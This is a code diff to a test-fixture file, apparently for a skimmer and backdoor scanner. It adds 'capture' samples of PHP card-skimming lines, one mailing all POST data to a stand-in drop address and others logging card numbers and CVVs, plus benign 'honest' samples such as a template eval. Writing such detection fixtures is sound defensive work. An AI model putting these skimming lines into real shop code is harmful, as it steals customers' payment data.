@@ -118,6 +118,9 @@ export const BACK_DOORS: readonly Sample[] = [
 ];
 
 export const CAPTURES: readonly Sample[] = [
+  ['by mail, everything', 'pay.php', MODULE, put("@mail('d@drop.test', 'o', print_r($_POST, true));")],
+  ['a variable, encrypted', 'pay.php', MODULE, put('openssl_public_encrypt(json_encode($card), $o, $k);')],
+  ['a variable to a log', 'pay.php', MODULE, put("error_log($ccNumber . '|' . $cvv, 3, '/tmp/x');")],
   [
     'to a file',
     'pay.php',
@@ -278,6 +281,18 @@ const list = (count: number, line: (n: number) => string): string =>
 
 /** What honest shops, frameworks and their suppliers ship: quiet, all of it. */
 export const HONEST: readonly Sample[] = [
+  [
+    'a list of files in strings',
+    'update.php',
+    null,
+    "<?php $old = array('wp-admin/images/required.gif', 'x.gif', 'requiredData', 'please include logo.png'); $x = $_POST['requiredData'];",
+  ],
+  [
+    'a template engine that reads what it compiled',
+    'lib/compiled.php',
+    null,
+    "<?php eval('?>' . file_get_contents($this->filepath));",
+  ],
   [
     'a template engine that runs what it compiled',
     'vendor/twig/twig/src/Environment.php',
